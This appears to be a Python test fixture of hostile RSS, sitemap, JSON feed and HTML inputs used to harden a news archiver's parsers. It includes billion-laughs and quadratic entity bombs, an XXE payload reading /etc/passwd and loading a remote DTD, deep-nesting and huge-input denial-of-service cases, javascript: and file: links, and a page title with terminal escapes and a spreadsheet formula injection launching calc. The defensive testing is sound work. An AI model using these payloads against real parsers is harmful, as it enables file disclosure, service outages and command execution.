"""Documents that mean harm to whoever parses them: lists that discovery reads, pages that the reader reads."""

# ruff: noqa: E501  # one document a line, however long

import json
from collections.abc import Callable

from archive.model import SourceKind
from tests.hostile.responses import Attack, Made
from tests.wire_cases import sized

XML = b"Content-Type: text/xml"
HTML = b"Content-Type: text/html; charset=utf-8"


def listing(name: str, kind: SourceKind, make: Callable[[], str], mime: bytes = XML) -> Attack:
    path = {"feed": "/rss", "section": "/news"}.get(kind, "/sitemap.xml")
    return Attack(f"list-{name}", Made(lambda: sized(make().encode("utf-8", "surrogatepass"), mime)), kind, path=path)


def page(name: str, make: Callable[[], str], mime: bytes = HTML) -> Attack:
    return Attack(f"page-{name}", Made(lambda: sized(make().encode("utf-8", "surrogatepass"), mime)))


def rss(items: str, before: str = "") -> str:
    return f"{before}<rss version='2.0'><channel><title>C</title>{items}</channel></rss>"


def item(link: str, title: str = "Ferry strike goes on") -> str:
    return f"<item><title>{title}</title><link>{link}</link></item>"


def article(body: str, head: str = "") -> str:
    return f"<html><head><title>Ferry strike goes on</title>{head}</head><body><article>{body}</article></body></html>"


LOL = "<!DOCTYPE r [<!ENTITY a0 'lol'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
XXE = "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % y SYSTEM 'http://list-xxe.test/y.dtd'> %y;]>"
TEXT = "<p>The crews of the three harbour ferries stayed on land this morning, and the pier was empty at sunrise.</p>"


def _hosts_of_all_kinds() -> str:
    links = ("http://127.0.0.1/a", "http://2130706433/a", "file:///etc/passwd", "data:text/html,x", "ftp://a.test/x")
    more = (
        "javascript:alert(1)",
        "//[::1]/a",
        "http://[",
        "http://a..b/",
        "http:///x",
        "?",
        "#",
        "\\\\a\\b",
        "mailto:x@y",
    )
    return rss("".join(item(link) for link in (*links, *more, "http://u:p@list-odd-links.test/a", "/" + "a" * 9_000)))


LISTS: tuple[Attack, ...] = (
    listing("lol", "feed", lambda: rss(item("/a") + "<item><title>&a9;</title><link>/b</link></item>", LOL)),
    listing("lol-sitemap", "sitemap", lambda: LOL + "<urlset><url><loc>/a&a9;</loc></url></urlset>"),
    listing("xxe", "feed", lambda: rss("<item><title>&x;</title><link>/b</link></item>", XXE)),
    listing("quadratic", "feed", lambda: rss(item("/a", "&q;" * 50_000), f"<!DOCTYPE r [<!ENTITY q '{'q' * 50_000}'>]>")),
    listing("deep", "feed", lambda: rss("<item>" * 200_000)),
    listing("deep-sitemap", "sitemap", lambda: "<urlset>" + "<url>" * 300_000),
    listing("deep-section", "section", lambda: "<html>" + "<div><a href=/a>" * 100_000, HTML),
    listing("many-items", "feed", lambda: rss("".join(item(f"http://elsewhere.test/a/{n}") for n in range(60_000)))),
    listing("many-urls", "sitemap", lambda: "<urlset>" + "".join(
        f"<url><loc>http://elsewhere.test/2026/03/04/story-of-the-day-{n}</loc></url>" for n in range(50_000)
    ) + "</urlset>"),
    listing("many-anchors", "section", lambda: "".join(f"<a href=http://elsewhere.test/a/{n}>Ferry strike goes on</a>" for n in range(100_000)),
            HTML),
    listing("unclosed", "feed", lambda: "<rss><channel>" + "<item><title>x<link>/a" * 60_000),
    listing("ampersands", "feed", lambda: rss(item("/a", "&" * 1_000_000))),
    listing("prefixes", "feed", lambda: rss("".join(f"<p{n}:x/>" for n in range(30_000)))),
    listing("attributes", "feed", lambda: f"<rss {' '.join(f'a{n}=x' for n in range(50_000))}>" + item("/a")),
    listing("one-text", "sitemap", lambda: f"<urlset><url><loc>http://list-one-text.test/{'a' * 12_000_000}</loc>"),
    listing("comments", "feed", lambda: rss("<!--" * 100_000 + item("/a"))),
    listing("cdata", "feed", lambda: rss("<![CDATA[" * 100_000 + item("/a"))),
    listing("doctype", "feed", lambda: "<!DOCTYPE " + "[" * 500_000 + rss(item("/a"))),
    listing("nul", "feed", lambda: rss(item("/a", "a\0b\x1b[2J")).replace("C<", "\0<")),
    listing("utf-7", "feed", lambda: "+ADw-rss+AD4-", b"Content-Type: text/xml; charset=utf-7"),
    listing("utf-16", "feed", lambda: "\ufeff<\0r\0s\0s\0>\0", b"Content-Type: text/xml; charset=utf-16"),
    listing("lone-surrogates", "feed", lambda: rss(item("/a/\ud800", "\udfff"))),
    listing("dates", "feed", lambda: rss("".join(
        f"<item><link>http://elsewhere.test/{n}</link><pubDate>{'9' * 200} Mon {'-' * 200}</pubDate></item>" for n in range(2_000)))),
    listing("odd-links", "feed", _hosts_of_all_kinds),
    listing("json-deep", "feed", lambda: '{"items":' + "[" * 200_000, b"Content-Type: application/feed+json"),
    listing("json-number", "feed", lambda: '{"version":"https://jsonfeed.org/version/1","items":[' + "1" * 1_000_000 + "]}",
            b"Content-Type: application/json"),
    listing("plain", "sitemap", lambda: "http://list-plain.test/a\n" * 200_000, b"Content-Type: text/plain"),
    listing("index-of-itself", "sitemap", lambda: "<sitemapindex>" + "".join(
        f"<sitemap><loc>http://list-index-of-itself.test/sitemap.xml?{n}</loc></sitemap>" for n in range(30)
    ) + "</sitemapindex>"),
    listing("scripts", "section", lambda: "<a href='javascript:x'>y</a><base href='file:///'><a href=a>Ferry strike goes on</a>",
            HTML),
)  # fmt: skip

PAGES: tuple[Attack, ...] = (
    page("deep", lambda: article("<font>" * 100_000 + TEXT)),
    page("deep-div", lambda: article("<div>" * 300 + TEXT * 5)),
    page("json-ld", lambda: article(TEXT, '<script type="application/ld+json">{"a":"' + 'a\\"' * 7_000 + "</script>")),
    page("json-ld-deep", lambda: article(TEXT, f'<script type="application/ld+json">{"[" * 100_000}</script>')),
    page("json-ld-authors", lambda: article(TEXT, '<script type="application/ld+json">' + json.dumps(
        {"@type": "NewsArticle", "author": [{"name": f"Ann {n}"} for n in range(20_000)]}) + "</script>")),
    page("paragraphs", lambda: article("<p>The ferry <a href=/x>resumes</a> on Tuesday.</p>" * 20_000)),
    page("breaks", lambda: article("The ferry resumes<br>" * 40_000)),
    page("links", lambda: article("<a href=/x>y</a>" * 60_000)),
    page("tables", lambda: article("<table><tr><td>" * 5_000 + TEXT)),
    page("attributes", lambda: article(f"<p {' '.join(f'a{n}=x' for n in range(100_000))}>" + TEXT)),
    page("one-word", lambda: article("<p>" + "a" * 5_000_000)),
    page("entities", lambda: article("<p>" + "&amp;&#0;&#xD800;&bogus;" * 50_000)),
    page("dates", lambda: article(TEXT, "".join(f"<meta name=date content='{n}-13-99T{'9' * 300}'>" for n in range(3_000)))),
    page("title", lambda: article(TEXT).replace("<title>", "<title>" + "\x1b]0;owned\x07\u202e=cmd|' /C calc'!A0\r\n" * 3)),
    page("nul", lambda: article(TEXT).replace("harbour", "har\0bour")),
    page("utf-16", lambda: article(TEXT), b"Content-Type: text/html; charset=utf-16"),
    page("no-html", lambda: "\x00\x01\x02" * 100_000),
    page("comment", lambda: article("<!--" + TEXT * 100)),
    page("script", lambda: article("<script>" + TEXT * 100)),
    page("svg", lambda: article("<svg>" * 20_000 + "<foreignObject>" + TEXT)),
    page("noscript", lambda: article("<noscript>" * 10_000 + TEXT)),
    page("spaces", lambda: article("<p>" + " \u00a0\u3000\t\n" * 500_000 + "x")),
)  # fmt: skip
